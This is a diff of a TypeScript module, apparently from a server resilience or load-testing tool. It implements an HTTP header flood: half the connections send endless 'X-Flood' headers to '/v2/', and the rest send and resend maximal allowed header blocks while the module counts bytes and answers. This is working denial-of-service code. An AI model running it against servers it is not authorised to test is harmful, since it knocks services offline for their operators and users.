@@ -1,38 +1,44 @@
-import { once } from 'node:events';
+import type { Socket } from 'node:net';
 import type { Attack } from '../attack.ts';
 import { Answers } from './answers.ts';
-import { openConnection } from './connection.ts';
+import { closeOf, openConnection } from './connection.ts';
 import type { RunningAttack } from './running-attack.ts';
 
 const BEGINNING = 'GET /v2/ HTTP/1.1\r\nHost: x\r\n';
-/** As much as a socket takes at a time. */
-const HEADERS = `X-Flood: ${'x'.repeat(80)}\r\n`.repeat(Math.floor((64 * 1024) / 91));
+const header = (length: number) => `X-Flood: ${'x'.repeat(length)}\r\n`;
+/** Of a request that has no end. It is too long by far, and goes on when it is refused. */
+const ENDLESS = BEGINNING + header(80).repeat(1400);
+/** As many as are allowed, and nearly as large: each is read, and answered. */
+const ALLOWED = `${BEGINNING}${header(600).repeat(100)}\r\n`;
 
-/** Sends headers that have no end, over connections that are opened again as they are closed. */
+/**
+ * Sends headers, over connections that are opened again as they are closed: every other one sends requests without an
+ * end, and the others as many as are answered.
+ */
 export function floodHeaders(attack: Attack): RunningAttack {
   const answers = new Answers();
   let sent = 0;
   let open = 0;
-  const flood = async () => {
+  const send = (socket: Socket, text: string) => {
+    sent += text.length;
+    socket.write(text);
+  };
+  const flood = async (index: number) => {
     while (sent < attack.bytes) {
       const socket = await openConnection(attack);
       open++;
-      answers.watch(socket);
-      const closed = once(socket, 'close');
-      socket.write(BEGINNING);
-      const send = () => {
-        while (socket.writable && sent < attack.bytes) {
-          sent += HEADERS.length;
-          if (!socket.write(HEADERS)) return;
-        }
-        socket.end();
-      };
-      socket.on('drain', send);
-      send();
+      const closed = closeOf(socket);
+      const isEndless = index % 2 === 0;
+      answers.watch(socket, () => {
+        if (isEndless) return;
+        if (sent < attack.bytes) send(socket, ALLOWED);
+        else socket.end();
+      });
+      send(socket, isEndless ? ENDLESS : ALLOWED);
       await closed;
       open--;
     }
   };
-  void Promise.all(Array.from({ length: attack.count }, flood));
+  void Promise.all(Array.from({ length: attack.count }, (_, index) => flood(index)));
   return { ready: Promise.resolve(), result: () => ({ open, sent, answers: answers.counts }) };
 }
